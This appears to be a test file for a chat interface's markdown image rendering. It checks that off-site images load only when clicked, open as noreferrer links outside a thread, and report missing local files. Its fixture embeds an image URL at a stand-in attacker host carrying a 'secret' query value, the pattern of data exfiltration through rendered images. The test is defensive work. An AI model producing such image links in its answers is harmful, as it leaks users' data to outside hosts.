import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { fireEvent, render, screen, waitFor } from "@testing-library/react";
import { expect, it, vi } from "vitest";
import { LocaleProvider } from "@/i18n";
import { MarkdownPlace } from "./place";
import Rich from "./rich";

const draw = (threadId: string | null) =>
  render(
    <QueryClientProvider client={new QueryClient()}>
      <LocaleProvider>
        <MarkdownPlace value={{ threadId, openFile: () => {} }}>
          <Rich text="![A harmless chart](https://evil.example/p.png?d=secret)" streaming={false} />
        </MarkdownPlace>
      </LocaleProvider>
    </QueryClientProvider>,
  );

it("a picture of another site is a frame that names its host, until it is asked for", async () => {
  const requests = vi.fn(async (_: string, _init?: RequestInit) => Response.json({ path: "/mnt/x.png" }));
  vi.stubGlobal("fetch", requests);
  const { container } = draw("t");
  const show = await screen.findByRole("button", { name: /^Show picture/ });
  expect(screen.getByText("evil.example")).toBeTruthy();
  expect(container.querySelector("img")).toBeNull();
  expect(requests).not.toHaveBeenCalled();
  fireEvent.click(show);
  await waitFor(() => expect(requests).toHaveBeenCalled());
  expect(requests.mock.calls[0]![0]).toMatch(/^\/api\/threads\/t\/pages\/pictures/);
  vi.unstubAllGlobals();
});

it("outside of a thread it is a link that names its host", () => {
  const { container } = draw(null);
  const link = screen.getByRole("link", { name: /A harmless chart · Image from evil.example/ });
  expect(link.getAttribute("rel")).toContain("noreferrer");
  expect(container.querySelector("img")).toBeNull();
});

it("a picture of the thread that is not there says so, in place of a button", async () => {
  render(
    <LocaleProvider>
      <MarkdownPlace value={{ threadId: "t", openFile: () => {} }}>
        <Rich text="![Sales](/mnt/user-data/outputs/sales.png)" streaming={false} />
      </MarkdownPlace>
    </LocaleProvider>,
  );
  fireEvent.error(await screen.findByRole("img", { name: "Sales" }));
  expect(screen.getByText("Couldn’t show the image sales.png: it’s missing or damaged.")).toBeTruthy();
  expect(screen.queryByRole("button")).toBeNull();
});
